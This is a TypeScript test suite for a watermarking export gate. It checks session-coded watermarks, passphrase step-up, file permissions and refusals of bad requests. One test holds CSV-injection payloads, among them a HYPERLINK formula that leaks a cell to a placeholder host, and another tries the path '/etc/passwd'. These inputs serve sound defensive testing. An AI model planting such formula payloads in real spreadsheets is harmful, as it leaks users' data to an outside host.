import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { randomBytes, sha256 } from '../../../../src-shared/node/crypto';
import { fromUtf8, toHex } from '../../../../src-shared/encoding';
import { RwError } from '../../../../src-shared/errors';
import { exportRequestSchema, type ExportRequest } from '../../../../src-shared/ipc/channels-controls';
import { DEFAULT_POLICY, type Policy } from '../../../../src-shared/policy';
import { decodeWatermark } from '../../../../src-shared/watermark/decoder';
import { extractTextFingerprint } from '../../../../src-shared/watermark/text-fingerprint';
import { exportExcerpt, type ExportGateDeps } from '../../../../src-main/controls/export-gate';
import { decodeImageBytes, encodePng } from '../../../../src-main/controls/watermark-files';
import { WatermarkSessions } from '../../../../src-main/controls/watermark-session';

const JUSTIFY: Policy = { ...DEFAULT_POLICY, version: 2, printExportMode: 'justify' };
const NOW = Date.UTC(2026, 10, 28, 7, 30);
const ARTIFACT = `art-${'ab'.repeat(16)}`;

/** A page as a viewer would render it: white, with dark "lines of text" and a grey table band. */
function pagePng(width: number, height: number): Uint8Array {
  const data = new Uint8ClampedArray(width * height * 4).fill(255);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const o = (y * width + x) * 4;
      const inLine = y % 28 < 12 && x > 40 && x < width - 40 && (x * 7 + y * 3) % 11 < 6;
      const band = y > height * 0.6 && y < height * 0.7;
      const v = inLine ? 30 : band ? 235 : 255;
      data[o] = v;
      data[o + 1] = v;
      data[o + 2] = v;
    }
  }
  return encodePng({ width, height, data });
}

describe('the export gate', () => {
  let dir: string;
  let sessions: WatermarkSessions;
  let stepUps: string[];
  let deps: ExportGateDeps;
  let policy: Policy;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'rw-export-'));
    sessions = new WatermarkSessions({ random: randomBytes, clock: () => NOW });
    sessions.begin({ user: 'avery.reviewer', role: 'reviewer', workstationId: 'ws-0123abcd' });
    stepUps = [];
    policy = JUSTIFY;
    deps = {
      policy: () => policy,
      session: () => sessions.current(),
      async stepUp(passphrase) {
        stepUps.push(passphrase);
        if (passphrase !== 'the right passphrase') throw new RwError('AUTH_FAILED', 'The user name or passphrase is not correct.');
      },
      exportDir: join(dir, 'exports'),
      clock: () => NOW,
    };
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const png = (overrides: Partial<ExportRequest> = {}): ExportRequest =>
    exportRequestSchema.parse({
      kind: 'png',
      artifactId: ARTIFACT,
      label: 'page 3',
      justification: 'Finding F-2 needs the eval table as evidence.',
      passphrase: 'the right passphrase',
      png: pagePng(640, 480),
      ...overrides,
    });

  it('burns a watermark that decodes to the exporting session, and reports the file digest', async () => {
    const outcome = await exportExcerpt(png(), deps);
    const files = readdirSync(deps.exportDir);
    expect(files).toEqual([outcome.result.fileName]);
    expect(outcome.result.fileName).toMatch(/^rw-export-20261128T073000Z-page-3-[0-9a-f]{12}\.png$/);
    const bytes = readFileSync(join(deps.exportDir, outcome.result.fileName));
    expect(outcome.result.sha256).toBe(toHex(sha256(bytes)));
    expect(outcome.result.bytes).toBe(bytes.byteLength);
    expect(statSync(join(deps.exportDir, outcome.result.fileName)).mode & 0o777).toBe(0o600);
    expect(statSync(deps.exportDir).mode & 0o777).toBe(0o700);
    const decoded = decodeWatermark(decodeImageBytes(bytes));
    expect(decoded?.code).toBe(sessions.current()?.codeHex);
    expect(outcome.detail).toMatchObject({ decision: 'allowed', sha256: outcome.result.sha256, justification: 'Finding F-2 needs the eval table as evidence.' });
    expect(stepUps).toEqual(['the right passphrase']);
  });

  it('the visible watermark is burned in: the export differs from the page beyond the invisible pattern', async () => {
    const outcome = await exportExcerpt(png(), deps);
    const exported = decodeImageBytes(readFileSync(join(deps.exportDir, outcome.result.fileName)));
    const original = decodeImageBytes(pagePng(640, 480));
    let visible = 0;
    for (let i = 0; i < original.data.length; i += 4) if ((original.data[i] ?? 0) - (exported.data[i] ?? 0) > 20) visible++;
    expect(visible).toBeGreaterThan(2000);
  });

  it('fingerprints a CSV excerpt with the session code under a visible banner row', async () => {
    const csv = 'metric,score\nrefusal rate,0.93\njailbreak success,0.04\n'.repeat(20);
    const outcome = await exportExcerpt(exportRequestSchema.parse({ kind: 'csv', artifactId: ARTIFACT, label: 'rows 1-60', justification: 'Quoted in the finding about refusal rates.', passphrase: 'the right passphrase', csv }), deps);
    const text = fromUtf8(readFileSync(join(deps.exportDir, outcome.result.fileName)));
    expect(text.split('\r\n')[0]).toContain(`session ${sessions.current()?.codeHex}`);
    expect(text.split('\r\n')[0]).toContain('CUI // PROPRIETARY');
    expect(extractTextFingerprint(text)).toBe(sessions.current()?.codeHex);
  });

  it('neutralises cells a spreadsheet would run as formulas (CSV injection), quoted or not', async () => {
    const csv = 'metric,score\r\n=HYPERLINK("http://x/?"&A1),"+1"\r\n@SUM(A1),-2\r\n';
    const outcome = await exportExcerpt(exportRequestSchema.parse({ kind: 'csv', artifactId: ARTIFACT, label: 'rows 1-3', justification: 'Quoted in the finding about refusal rates.', passphrase: 'the right passphrase', csv }), deps);
    const text = fromUtf8(readFileSync(join(deps.exportDir, outcome.result.fileName))).replace(/[\u200b-\u200f\u2060-\u2064\ufeff]/g, '');
    const cells = text.split('\r\n').slice(1).flatMap((row) => row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.filter((c) => c.startsWith("'"))).toHaveLength(4);
  });

  const refusals: [string, () => void, ExportRequest | (() => ExportRequest), RwError['code']][] = [
    ['the policy denies export', () => (policy = DEFAULT_POLICY), () => png(), 'DENIED'],
    ['the passphrase is wrong', () => undefined, () => png({ passphrase: 'a wrong passphrase' }), 'AUTH_FAILED'],
    ['no watermark session is active', () => sessions.end(), () => png(), 'VAULT_LOCKED'],
    ['the PNG is not an image', () => undefined, () => png({ png: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]) }), 'INVALID_INPUT'],
  ];

  it.each(refusals)('refuses when %s and writes nothing', async (_name, arrange, request, code) => {
    arrange();
    const req = typeof request === 'function' ? request() : request;
    await expect(exportExcerpt(req, deps)).rejects.toMatchObject({ code });
    expect(() => readdirSync(deps.exportDir)).toThrow();
  });

  it('checks the step-up passphrase before reading the image', async () => {
    await expect(exportExcerpt(png({ passphrase: 'a wrong passphrase', png: new Uint8Array([1, 2, 3]) }), deps)).rejects.toMatchObject({ code: 'AUTH_FAILED' });
  });

  it.each([
    ['a justification under 20 characters', { justification: 'because' }],
    ['a renderer-chosen path', { path: '/etc/passwd' }],
    ['an empty PNG', { png: new Uint8Array(0) }],
    ['a missing passphrase', { passphrase: undefined }],
  ])('the channel schema refuses %s', (_name, overrides) => {
    const request = { kind: 'png', artifactId: ARTIFACT, label: 'page 1', justification: 'A justification that is long enough.', passphrase: 'x', png: new Uint8Array([1]), ...overrides };
    expect(exportRequestSchema.safeParse(request).success).toBe(false);
  });
});
